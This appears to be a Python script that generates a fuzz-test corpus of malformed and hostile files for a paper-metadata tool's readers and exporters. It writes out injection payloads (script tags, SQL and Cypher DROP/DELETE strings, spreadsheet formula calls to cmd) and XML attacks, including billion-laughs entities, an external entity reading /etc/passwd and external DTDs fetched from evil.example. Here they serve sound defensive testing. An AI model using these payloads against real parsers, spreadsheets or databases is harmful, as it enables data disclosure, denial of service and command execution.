"""Generate a fuzz corpus of malformed and hostile inputs for kg's readers and exporters.

Usage::

    python tests/fuzz/make_corpus.py OUT_DIR [--seed N] [--report]

Writes one file per case into ``OUT_DIR`` and ``OUT_DIR/manifest.json``, which says for every file
its format and what reading it must give:

- ``good``: tokens (``Kgfuzz-good-0001`` ...) of the records that must be read and kept. Hostile
  but well-formed records (``<script>``, ``"]]>``, ``'); DROP``, ``=cmd|' /C calc'!A0``,
  ``{{7*7}}``, ``} ; DROP ALL``, IRIs with spaces and ``>`` ...) are good records: text is data.
- ``bad``: how many records (or whole files) must be reported as skipped, each with the file
  and, for a record, its line or record number; ``None`` where a random mutation makes the number
  unknowable (then only "no crash, every good record kept" is checked).
- ``changed``: how many kept records must be reported as changed (an abstract cut, a URL dropped).
- ``duplicates``: later copies of a paper already read.

Each format (JSON Lines, JSON array, CSV, TSV, BibTeX, arXiv Atom, Hugging Face listing) gets the
same families of damage: empty and whitespace-only files, a BOM, UTF-16, Latin-1 and invalid UTF-8
bytes, NUL and control characters, CRLF, gzip and truncated gzip, truncation, a 5 MB abstract,
a punctuation-only title, duplicate ids with different titles, missing fields, hostile payloads;
then format-specific damage (XML bombs, unclosed CSV quotes, broken JSON elements, unbalanced
BibTeX braces, listing chrome) and seeded random byte mutations of one "victim" record placed so
that it cannot take good records down with it. ``--report`` reads the corpus back with kg's
readers and prints the counts.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import random
import sys
from dataclasses import asdict, dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

#: Hostile payloads: each must come out of every export as inert text.
PAYLOADS = [
    "<script>window.KGFUZZ=1</script>",
    "</script><script>KGFUZZ()</script>",
    "<img src=x onerror=KGFUZZ()>",
    '<a href="javascript:KGFUZZ()">x</a>',
    '"]]>',
    "<![CDATA[KGFUZZ]]>",
    "'); DROP TABLE papers; --",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}}",
    "${7*7}",
    "} ; DROP ALL",
    '" }) DETACH DELETE n //',
    "MATCH (n) DETACH DELETE n",
    "<http://evil.example/x> <http://evil.example/p> \"o\" .",
    '""" ; INSERT DATA { <x> <y> <z> }',
    "\\\" \\u0022 \\n",
    "&lt;script&gt;KGFUZZ()&lt;/script&gt;",
    "\u202eevil\u202c \u200b\u200d zero-width",
    "😀 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ﷽",
]
#: Identifiers and URLs that become IRIs: spaces, ``>``, quotes, braces.
HOSTILE_IDS = ["id with spaces>", "a>b", 'x"y<z', "{id}|^`\\", "urn:x:<script>", "10.1000/a b>c"]
HOSTILE_URLS = ["https://example.org/a b>c", "javascript:KGFUZZ()", "https://example.org/x\"y<z>", "data:text/html,<script>"]

FORMATS = {"jsonl": ".jsonl", "json": ".json", "csv": ".csv", "tsv": ".tsv", "bibtex": ".bib",
           "arxiv-atom": ".xml", "hf-listing": ".txt"}

BIG = 5 * 1024 * 1024


@dataclass
class Raw:
    """Bytes put into a file as they are, in place of one record (a malformed record)."""

    data: bytes


@dataclass
class Case:
    name: str
    fmt: str
    good: list[str] = field(default_factory=list)
    bad: int | None = 0
    changed: int = 0
    duplicates: int = 0
    note: str = ""


class Tokens:
    """Unique tokens for good records, so a test can tell exactly which ones were kept."""

    def __init__(self) -> None:
        self.n = 0

    def __call__(self) -> str:
        self.n += 1
        return f"Kgfuzz-good-{self.n:04d}"


def good_record(token: str, rng: random.Random, **extra) -> dict:
    words = rng.sample(["sparse", "adaptive", "scalable", "robust", "efficient", "multimodal", "latent", "neural"], 3)
    name = "Fz" + token.rsplit("-", 1)[-1].title() + "Net"
    # No comma or quote in a good record: CSV writes it unquoted, so a stray quote elsewhere cannot
    # pair with one of its quotes and swallow it (see kg.sources.tabular on unclosed quotes).
    record = {
        "title": f"{token} {' '.join(words).title()} Models",
        "abstract": f"We propose {name} as a model built on Llama 2 and evaluated on MMLU. "
                    f"It is trained on The Pile and compared to LoRA on several tasks. "
                    f"Results show that {name} improves accuracy while using less memory than prior work. "
                    f"This abstract is long enough to be read as prose in every input format we test.",
    }
    record.update(extra)
    return record


# --- renderers: records (dicts of fields, or Raw bytes) -> the bytes of one file ----------------------


def render(fmt: str, records: list[dict | Raw]) -> bytes:
    return {"jsonl": _jsonl, "json": _json_array, "csv": _csv, "tsv": _tsv, "bibtex": _bibtex,
            "arxiv-atom": _atom, "hf-listing": _listing}[fmt](records)


def _jsonl(records: list[dict | Raw]) -> bytes:
    return b"".join(r.data if isinstance(r, Raw) else json.dumps(r, ensure_ascii=False).encode() + b"\n" for r in records)


def _json_array(records: list[dict | Raw]) -> bytes:
    parts = [r.data if isinstance(r, Raw) else json.dumps(r, ensure_ascii=False).encode() for r in records]
    return b"[\n" + b",\n".join(parts) + b"\n]\n"


_COLUMNS = ["title", "abstract", "id", "url", "authors"]


def _table(records: list[dict | Raw], delimiter: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerow(_COLUMNS)
    data = out.getvalue().encode()
    for record in records:
        if isinstance(record, Raw):
            data += record.data
            continue
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator="\n").writerow(
            ["; ".join(v) if isinstance(v, list) else str(record.get(c, "")) for c in _COLUMNS
             for v in [record.get(c, "")]])
        data += out.getvalue().encode()
    return data


def _csv(records: list[dict | Raw]) -> bytes:
    return _table(records, ",")


def _tsv(records: list[dict | Raw]) -> bytes:
    return _table(records, "\t")


def _bibtex(records: list[dict | Raw]) -> bytes:
    data = b"% kg fuzz corpus\n"
    for n, record in enumerate(records):
        if isinstance(record, Raw):
            data += record.data
            continue
        fields = [f"  title = {{{record['title']}}}", f"  abstract = {{{record['abstract']}}}"]
        if "id" in record:
            fields.append(f"  eprint = {{{record['id']}}}")
        if "url" in record:
            fields.append(f"  url = {{{record['url']}}}")
        if "authors" in record:
            fields.append(f"  author = {{{' and '.join(record['authors'])}}}")
        data += (f"@article{{key{n},\n" + ",\n".join(fields) + "\n}\n\n").encode()
    return data


def _atom(records: list[dict | Raw], declaration: bool = True) -> bytes:
    head = '<?xml version="1.0" encoding="UTF-8"?>\n' if declaration else ""
    data = (head + '<feed xmlns="http://www.w3.org/2005/Atom">\n  <title>kg fuzz</title>\n').encode()
    for record in records:
        if isinstance(record, Raw):
            data += record.data
            continue
        parts = [f"<id>{xml_escape(record.get('id', ''))}</id>" if "id" in record else "",
                 f"<title>{xml_escape(record['title'])}</title>", f"<summary>{xml_escape(record['abstract'])}</summary>"]
        parts += [f"<author><name>{xml_escape(a)}</name></author>" for a in record.get("authors", [])]
        if "url" in record:
            parts.append(f'<link rel="alternate" href="{xml_escape(record["url"], {chr(34): "&quot;"})}"/>')
        data += ("  <entry>" + "".join(parts) + "</entry>\n").encode()
    return data + b"</feed>\n"


_CHROME = "new\n\nGet trending papers in your email inbox!\n\nSubscribe\n\nbyAK and the research community\n\nApr 23\n\n"


def _listing(records: list[dict | Raw]) -> bytes:
    data = _CHROME.encode()
    for record in records:
        if isinstance(record, Raw):
            data += record.data
            continue
        data += f"{record['title']}\n\n{record['abstract']}\n\n".encode()
    return data


# --- the corpus ---------------------------------------------------------------------------------------


def _hostile_records(fmt: str, token: Tokens, rng: random.Random) -> list[tuple[str, dict]]:
    """One well-formed record per payload (and per hostile id / URL): all must be kept."""
    records = []
    for payload in PAYLOADS:
        if fmt == "bibtex" and ("{" in payload or "}" in payload):
            continue  # a brace in a braced BibTeX value is syntax, not data: see the "bibtex-braces" case
        tok = token()
        record = good_record(tok, rng)
        record["title"] = f"{tok} {payload} Paper"
        record["abstract"] = f"{payload} {record['abstract']} {payload}"
        record["authors"] = [f"{payload} Author", "Ada Lovelace"]
        if fmt == "hf-listing":
            record["title"] = record["title"].replace("\n", " ")
        records.append((tok, record))
    for value in HOSTILE_IDS:
        tok = token()
        if fmt == "bibtex" and ("{" in value or "}" in value):
            continue
        # Unique per record: one id in several files would be one paper claiming several titles.
        records.append((tok, good_record(tok, rng, id=f"{value}{tok[-4:]}")))
    return records


def _hostile_url_records(token: Tokens, rng: random.Random) -> list[tuple[str, dict, bool]]:
    """Records with hostile URLs; the bool says whether the URL is dropped (a RecordWarning)."""
    out = []
    for url in HOSTILE_URLS:
        tok = token()
        dropped = not url.startswith("https://") or " " in url
        out.append((tok, good_record(tok, rng, url=url), dropped))
    return out


def _truncated_gzip(data: bytes, rng: random.Random) -> bytes:
    """``data`` gzipped, with incompressible junk after it, cut inside the junk."""
    junk = "".join(rng.choice("ghijklmnopqrstuvwxyz") for _ in range(400_000)).encode()
    packed = gzip.compress(data + b"\n" + junk, mtime=0)
    return packed[: len(packed) - 20_000]


def _mutate(data: bytes, rng: random.Random) -> bytes:
    """Flip, drop, insert or duplicate bytes of ``data``, never adding or removing a newline."""
    data = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        if not data:
            break
        i = rng.randrange(len(data))
        op = rng.choice(["flip", "drop", "insert", "dup", "special"])
        if data[i] == 0x0A and op in ("flip", "drop"):
            continue
        if op == "flip":
            data[i] = (data[i] ^ (1 << rng.randrange(8))) or 0x20
            if data[i] == 0x0A:
                data[i] = 0x20
        elif op == "drop":
            del data[i]
        elif op == "insert":
            data.insert(i, rng.choice([b for b in range(256) if b != 0x0A]))
        elif op == "dup":
            data[i:i] = data[i:i + rng.randint(1, 16)].replace(b"\n", b" ")
        else:
            for b in rng.choice([b'"', b"{", b"}", b"[", b"<", b"&", b"\\", b",", b"\x00", b"\xff", b"\xc3", b"\r"]):
                data.insert(i, b)
    return bytes(data)


def build_corpus(out: Path, seed: int = 0) -> list[Case]:
    """Write the corpus into ``out``; return its cases (also written as ``manifest.json``)."""
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    token = Tokens()
    cases: list[Case] = []

    def emit(name: str, fmt: str, data: bytes, good: list[str], bad: int | None, changed: int = 0,
             duplicates: int = 0, note: str = "", suffix: str | None = None) -> None:
        filename = f"{name}{suffix if suffix is not None else FORMATS[fmt]}"
        (out / filename).write_bytes(data)
        cases.append(Case(filename, fmt, good, bad, changed, duplicates, note))

    for fmt in FORMATS:
        stem = fmt.replace("-", "_")

        def goods(n: int, **extra) -> tuple[list[str], list[dict]]:
            toks = [token() for _ in range(n)]
            return toks, [good_record(t, rng, **extra) for t in toks]

        # Well-formed: the baseline every other case is measured against.
        toks, recs = goods(3)
        emit(f"{stem}-clean", fmt, render(fmt, recs), toks, 0, note="well-formed")

        # Hostile but well-formed text: every record kept, escaped in every export.
        hostile = _hostile_records(fmt, token, rng)
        urls = _hostile_url_records(token, rng)
        recs = [r for _, r in hostile] + [r for _, r, _ in urls]
        ids_dropped = sum(1 for _, r in hostile if " " in r.get("id", ""))
        changed = 0 if fmt == "hf-listing" else sum(d for _, _, d in urls) + ids_dropped  # a listing has no ids, URLs
        emit(f"{stem}-hostile", fmt, render(fmt, recs), [t for t, _ in hostile] + [t for t, _, _ in urls], 0,
             changed=changed, note="payloads in title, abstract, authors, id, url")

        # Empty and whitespace-only files: reported once, nothing read.
        emit(f"{stem}-empty", fmt, b"", [], 1, note="empty file")
        emit(f"{stem}-blank", fmt, b"  \n\r\n\t\n", [], 1, note="whitespace only")

        # Encodings.
        toks, recs = goods(2)
        emit(f"{stem}-bom", fmt, b"\xef\xbb\xbf" + render(fmt, recs), toks, 0, note="UTF-8 BOM")
        toks, recs = goods(2)
        text = render(fmt, recs).decode()
        emit(f"{stem}-utf16le", fmt, "\ufeff".encode("utf-16-le") + text.encode("utf-16-le"), toks, 0, note="UTF-16 LE with BOM")
        toks, recs = goods(2)
        text = render(fmt, recs).decode()
        emit(f"{stem}-utf16be", fmt, "\ufeff".encode("utf-16-be") + text.encode("utf-16-be"), toks, 0,
             note="UTF-16 BE with BOM")
        toks, recs = goods(2)
        for r in recs:
            r["title"] += " Café Naïve Résumé"
        emit(f"{stem}-latin1", fmt, render(fmt, recs).decode().encode("latin-1"), toks, 0, note="Latin-1 bytes")
        toks, recs = goods(2)
        data = render(fmt, recs).replace(b"It is trained", b"It \xff\xfe\x80 is \xe2\x82 trained \xc3")
        emit(f"{stem}-badutf8", fmt, data, toks, 0, note="invalid UTF-8 bytes inside records")

        # NUL and control characters inside records (escaped where the format has escapes).
        toks, recs = goods(2)
        # \x0b, \x0c and \x85 end lines for some readers of line-based formats: only where escaped.
        breaks = "\x0b\x0c\x85" if fmt in ("jsonl", "json") else ""
        for r in recs:
            r["title"] += f" \x00\x01\x07\x08{breaks}\x1b[31m\x7f"
            r["abstract"] = "\x00 " + r["abstract"] + " \x1f\x9b"
        emit(f"{stem}-control", fmt, render(fmt, recs), toks, 0, note="NUL and control characters")

        # Line endings, compression.
        toks, recs = goods(3)
        emit(f"{stem}-crlf", fmt, render(fmt, recs).replace(b"\n", b"\r\n"), toks, 0, note="CRLF line endings")
        toks, recs = goods(3)
        emit(f"{stem}-gzip", fmt, gzip.compress(render(fmt, recs), mtime=0), toks, 0, note="gzip",
             suffix=FORMATS[fmt] + ".gz")
        toks, recs = goods(3)
        payload = render(fmt, recs)
        if fmt == "arxiv-atom":
            payload = payload.replace(b"</feed>\n", b"")
        elif fmt == "json":
            payload = payload.rstrip().removesuffix(b"]")
        emit(f"{stem}-gzip-truncated", fmt, _truncated_gzip(payload, rng), toks, 1,
             note="gzip stream cut short after the good records", suffix=FORMATS[fmt] + ".gz")

        # Truncation inside the last record.
        toks, recs = goods(3)
        last = good_record("kgfuzz-cut", rng)
        data = render(fmt, [*recs, last])
        cut = data.index(b"kgfuzz-cut") + 6
        emit(f"{stem}-truncated", fmt, data[:cut], toks, 1, note="file cut inside the last record")

        # A 5 MB abstract: kept, cut, reported as changed.
        toks, recs = goods(2)
        tok = token()
        big = good_record(tok, rng)
        big["abstract"] = big["abstract"] + " " + "lorem ipsum dolor sit amet. " * (BIG // 28)
        emit(f"{stem}-huge-abstract", fmt, render(fmt, [recs[0], big, recs[1]]), [toks[0], tok, toks[1]], 0, changed=1,
             note="5 MB abstract")

        # Records that are not papers.
        toks, recs = goods(2)
        punct = good_record("x", rng)
        punct["title"] = "!!! ... ??? --- ***"
        emit(f"{stem}-punctuation-title", fmt, render(fmt, [recs[0], punct, recs[1]]), toks, 1,
             note="title of punctuation only")
        toks, recs = goods(2)
        no_abstract = {"title": "Title Without Abstract " + token()}
        no_title = {"abstract": good_record("y", rng)["abstract"]}
        if fmt == "hf-listing":  # a listing has no fields: an abstract after an abstract, a title before a title
            raw = [Raw(f"{no_title['abstract']}\n\n".encode()), Raw(f"{no_abstract['title']}\n\n".encode())]
        elif fmt == "arxiv-atom":
            raw = [Raw(f"  <entry><title>{no_abstract['title']}</title></entry>\n".encode()),
                   Raw(f"  <entry><summary>{no_title['abstract']}</summary></entry>\n".encode())]
        elif fmt == "bibtex":
            raw = [Raw(f"@misc{{na, title = {{{no_abstract['title']}}}}}\n".encode()),
                   Raw(f"@misc{{nt, abstract = {{{no_title['abstract']}}}}}\n".encode())]
        else:
            raw = [{**no_abstract, "abstract": ""}, {**no_title, "title": ""}]
        emit(f"{stem}-missing-fields", fmt, render(fmt, [recs[0], *raw, recs[1]]), toks, 2, note="no abstract; no title")

        # Duplicates: the same paper again (merged), and another paper reusing an id (reported).
        toks, recs = goods(2, id="2401.0" + f"{token.n:04d}")
        recs[1]["id"] = recs[0]["id"] + "v2"
        copy = dict(recs[0], abstract="Another copy of the same paper. " * 5)
        if fmt == "hf-listing":  # no ids in a listing: the second title is simply another paper
            emit(f"{stem}-duplicates", fmt, render(fmt, [recs[0], copy, recs[1]]), toks, 0, duplicates=1,
                 note="same paper twice")
        else:
            emit(f"{stem}-duplicates", fmt, render(fmt, [recs[0], copy, recs[1]]), toks[:1], 1, duplicates=1,
                 note="same paper twice; a different title under the same arXiv id")

    # --- format-specific damage --------------------------------------------------------------------
    def case(name: str, fmt: str, records: list[dict | Raw], good: list[str], bad: int | None, note: str,
             changed: int = 0) -> None:
        emit(name, fmt, render(fmt, records), good, bad, changed, note=note)

    # JSON Lines
    toks, recs = [token() for _ in range(4)], []
    recs = [good_record(t, rng) for t in toks]
    case("jsonl-broken-lines", "jsonl",
         [recs[0], Raw(b'{"title": "unterminated\n'), recs[1], Raw(b"[" * 100_000 + b"\n"), recs[2],
          Raw(b'["not", "an", "object"]\n'), Raw(b'{"title": NaN, "abstract": Infinity}\n'), recs[3],
          Raw(b"\x00\x00\x00\n"), Raw(b"}{\n")],
         toks, 6, note="broken, deeply nested, non-object, NaN (not JSON) lines")
    toks = [token() for _ in range(3)]
    recs = [good_record(t, rng) for t in toks]
    case("jsonl-odd-types", "jsonl",
         [dict(recs[0], title={"en": recs[0]["title"]}), dict(recs[1], title=[recs[1]["title"], "Part 2"], authors="A, B"),
          dict(recs[2], authors=[1, None, {"name": ["x"]}, [["y"]]], year=[2020], categories=7, id=12345),
          Raw(b'{"title": null, "abstract": "x"}\n'), Raw(b'{"title": "T", "abstract": []}\n')],
         toks, 2, note="fields of unexpected JSON types")

    # JSON array
    toks = [token() for _ in range(4)]
    recs = [good_record(t, rng) for t in toks]
    case("json-broken-element", "json",
         [recs[0], Raw(b'{"title": "broken "quote" here", "abstract": "x"}'), recs[1], Raw(b"42"), recs[2],
          Raw(b'{"title": "no close"'), recs[3]],
         toks, 3, note="broken element, a number, an unclosed object between good elements")
    (out / "json-not-array.json").write_bytes(b'"just a string"\n')
    cases.append(Case("json-not-array.json", "json", [], 1, note="top level is not an array"))

    # CSV / TSV
    toks = [token() for _ in range(4)]
    recs = [good_record(t, rng) for t in toks]
    case("csv-unclosed-quote", "csv",
         [recs[0], Raw(b'"Unclosed quote title,abstract text\n'), recs[1], recs[2], Raw(b"x,y,z,w,v,u,t\n"), recs[3]],
         toks, 2, note="an unclosed quote swallowing rows; a row with too many cells")
    toks = [token() for _ in range(2)]
    recs = [good_record(t, rng) for t in toks]
    case("csv-formula-cells", "csv",
         [dict(recs[0], title=f"=HYPERLINK(\"http://evil\",\"{toks[0]}\")", abstract="=1+1 " + recs[0]["abstract"]),
          dict(recs[1], title=f"@SUM(1) {toks[1]}", abstract="+cmd|' /C calc'!A0 " + recs[1]["abstract"],
               authors=["-2+3", "=A1"])],
         toks, 0, note="cells that spreadsheets read as formulas")
    toks = [token() for _ in range(2)]
    recs = [good_record(t, rng) for t in toks]
    emit("csv-header-only", "csv", b"title,abstract\n", [], 1, note="a header and no rows")
    emit("csv-no-header", "csv", b"just,some,cells\n1,2,3\n", [], 2, note="no title/abstract header",
         suffix=".csv")
    case("tsv-ragged", "tsv", [recs[0], Raw(b"only-one-cell\n"), Raw(b"\t\t\t\t\t\t\n"), recs[1]], toks, 1,
         note="ragged rows")

    # BibTeX
    toks = [token() for _ in range(3)]
    recs = [good_record(t, rng) for t in toks]
    case("bibtex-braces", "bibtex",
         [recs[0], Raw(b"@article{broken, title = {Unbalanced {brace}, abstract = {x}\n\n"), recs[1],
          Raw(b"@string{me = \"Macro\"}\n@comment{ignored}\n@preamble{\"\\newcommand\"}\n"), recs[2],
          Raw(b"@article{nofields}\n"), Raw(b"@@@@ {{{{ }}}} @\n")],
         toks, None, note="unbalanced braces, macros, comments, an entry without fields, junk")
    toks = [token()]
    rec = good_record(toks[0], rng)
    rec["title"] = f"{toks[0]} \\textbf{{Bold}} $\\alpha$-Net for Schr\\\"{{o}}dinger {{BERT}} \\& Co"
    case("bibtex-latex", "bibtex", [rec], toks, 0, note="LaTeX markup in fields")

    # arXiv Atom: XML attacks are refused whole (no good records are put in those files).
    lol = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    bombs = {
        "atom-billion-laughs": f'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY l0 "lol">{lol}]>'
                               '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&l9;</title>'
                               "<summary>x</summary></entry></feed>",
        "atom-quadratic": '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY a "' + "A" * 50_000 + '">]>'
                          '<feed><entry><title>t</title><summary>' + "&a;" * 2_000 + "</summary></entry></feed>",
        "atom-external-entity": '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                "<feed><entry><title>&x;</title><summary>leak</summary></entry></feed>",
        "atom-external-dtd": '<?xml version="1.0"?><!DOCTYPE feed SYSTEM "http://evil.example/feed.dtd">'
                             "<feed><entry><title>t</title><summary>s</summary></entry></feed>",
        "atom-parameter-entity": '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'
                                 "<feed/>",
    }
    for name, text in bombs.items():
        emit(name, "arxiv-atom", text.encode(), [], 1, note="XML attack: refused whole")
    toks = [token() for _ in range(2)]
    recs = [good_record(t, rng) for t in toks]
    case("atom-bad-char-ref", "arxiv-atom", [*recs, Raw(b"  <entry><title>&#0; &#xFFFE;</title></entry>\n")],
         toks, 1, note="a character reference XML forbids (after the good entries: XML cannot resume)")
    toks = [token() for _ in range(2)]
    recs = [good_record(t, rng) for t in toks]
    emit("atom-latin1-declared", "arxiv-atom",
         _atom([dict(r, title=r["title"] + " Café") for r in recs]).replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
         .decode().encode("latin-1"), toks, 0, note="encoding declared ISO-8859-1")
    emit("atom-html-page", "arxiv-atom", b"<!doctype html><html><body><p>Not a feed</p></body></html>", [], 1,
         note="an HTML page instead of a feed", suffix=".html")

    # Hugging Face listing
    emit("listing-chrome-only", "hf-listing", _CHROME.encode() + b"Daily Papers\n\n12 upvotes\n", [], 1,
         note="only page chrome")
    toks = [token() for _ in range(2)]
    recs = [good_record(t, rng) for t in toks]
    emit("listing-glued-chrome", "hf-listing",
         b"Get trending papers in your email inbox once a day!\nSubscribe" + _listing(recs)[len(_CHROME):],
         toks, 0, note="chrome glued to the first title, no blank lines")
    toks = [token() for _ in range(2)]
    recs = [good_record(t, rng) for t in toks]
    case("listing-orphans", "hf-listing",
         [Raw(b"A lone title\n\n"), recs[0], Raw(("An abstract with no title before it. " * 5 + "\n\n").encode()),
          recs[1], Raw(b"Another lone title\n")],
         toks, 3, note="titles with no abstract and an abstract with no title")

    # --- seeded random mutations of one victim record ---------------------------------------------
    for fmt in FORMATS:
        stem = fmt.replace("-", "_")
        for i in range(15):
            toks = [token() for _ in range(3)]
            recs = [good_record(t, rng) for t in toks]
            victim = render(fmt, [good_record("kgfuzz-victim", rng, id="2402.00001")])
            if fmt in ("csv", "tsv"):
                victim = victim.split(b"\n", 1)[1]  # the row, not the header
            elif fmt == "json":
                victim = victim.strip().removeprefix(b"[").removesuffix(b"]").strip()
            elif fmt == "arxiv-atom":
                victim = victim.split(b"<entry>", 1)[1].split(b"</entry>", 1)[0]
                victim = b"  <entry>" + victim + b"</entry>\n"
            elif fmt == "hf-listing":
                victim = victim[len(_CHROME):]
            mutated = Raw(_mutate(victim, rng))
            # XML cannot resume after an error: the victim goes last there. Elsewhere it sits in the middle.
            order = [*recs, mutated] if fmt == "arxiv-atom" else [recs[0], mutated, recs[1], recs[2]]
            case(f"{stem}-mutation-{i:02d}", fmt, order, toks, None, note="random byte mutations of one record")

    (out / "manifest.json").write_text(json.dumps([asdict(c) for c in cases], indent=1, ensure_ascii=False) + "\n")
    return cases


def load_manifest(out: Path) -> list[Case]:
    return [Case(**c) for c in json.loads((out / "manifest.json").read_text())]


def report(out: Path) -> dict[str, int]:
    """Read every corpus file with kg's readers; count files, records, bad records, good records kept."""
    from kg.sources import ReadReport, read_papers

    totals = {"files": 0, "records": 0, "bad_reported": 0, "changed_reported": 0, "duplicates": 0,
              "good_expected": 0, "good_kept": 0, "hostile_kept": 0, "files_with_lost_good_records": 0}
    for case in load_manifest(out):
        rep = ReadReport()
        papers = list(read_papers([out / case.name], rep))
        kept = {t for p in papers for t in case.good if t in p.title}
        totals["files"] += 1
        totals["records"] += len(papers) + rep.duplicates + sum(1 for e in rep.errors if e.record is not None)
        totals["bad_reported"] += len(rep.errors)
        totals["changed_reported"] += len(rep.warnings)
        totals["duplicates"] += rep.duplicates
        totals["good_expected"] += len(case.good)
        totals["good_kept"] += len(kept)
        totals["hostile_kept"] += len(kept) if "hostile" in case.name else 0
        totals["files_with_lost_good_records"] += len(kept) < len(case.good)
    return totals


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
    parser.add_argument("out", type=Path, help="folder to write the corpus into")
    parser.add_argument("--seed", type=int, default=0, help="seed of the random mutations (default 0)")
    parser.add_argument("--report", action="store_true", help="read the corpus back and print the counts")
    args = parser.parse_args(argv)
    cases = build_corpus(args.out, args.seed)
    print(f"wrote {len(cases)} files to {args.out}")
    if args.report:
        for key, value in report(args.out).items():
            print(f"{key}: {value}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
